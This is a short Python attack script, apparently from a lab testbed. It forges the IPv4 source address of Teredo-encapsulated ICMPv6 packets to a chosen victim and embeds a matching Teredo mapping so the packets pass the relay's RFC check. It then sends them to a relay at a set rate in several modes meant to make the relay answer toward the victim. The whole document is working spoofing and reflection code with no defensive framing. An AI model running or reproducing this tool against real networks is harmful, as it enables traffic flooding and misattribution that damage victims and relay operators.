#!/usr/bin/env python3
"""wire17: Teredo packets whose outer IPv4 source is forged to VICTIM:VPORT and whose Teredo source embeds that
mapping (so it matches, as the RFC's check wants), each from another Teredo address (the server field varies).
  spoof.py RELAY RPORT VICTIM VPORT COUNT RATE KIND   KIND: hoplimit1 (to the native host, hop limit 1),
  relayping (echo request to the relay's own 2001:db8:6::3), ping (echo request to the native host)"""
import socket, struct, sys, time
sys.path.insert(0, __file__.rsplit("/", 1)[0])
from craft import a6, teredo, echo, ipv6

def ip4_udp(src, sport, dst, dport, payload):
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload  # UDP checksum 0: allowed over IPv4
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0x4000, 64, 17, 0, socket.inet_aton(src),
                       socket.inet_aton(dst)) + udp

relay, rport, victim, vport, count, rate, kind = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), \
    int(sys.argv[5]), int(sys.argv[6]), sys.argv[7]
dst = a6("2001:db8:6::3") if kind == "relayping" else a6("2001:db8:6::20")
hlim = 1 if kind == "hoplimit1" else 64
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
start = time.monotonic()
size = 0
for i in range(count):
    server = socket.inet_ntoa(struct.pack("!I", 0xCB007100 + (i % 250) + 1 + ((i // 250) << 8) % 0x10000))  # 203.0.113.x and up
    src = teredo(server, vport, victim)
    pkt = ip4_udp(victim, vport, relay, rport, ipv6(src, dst, 58, echo(src, dst, seq=i), hlim))
    size += len(pkt)
    s.sendto(pkt, (relay, 0))
    due = start + (i + 1) / rate
    if due - time.monotonic() > 0.001:
        time.sleep(due - time.monotonic())
print("sent %d forged datagrams, %d bytes (IP), in %.2f s" % (count, size, time.monotonic() - start))
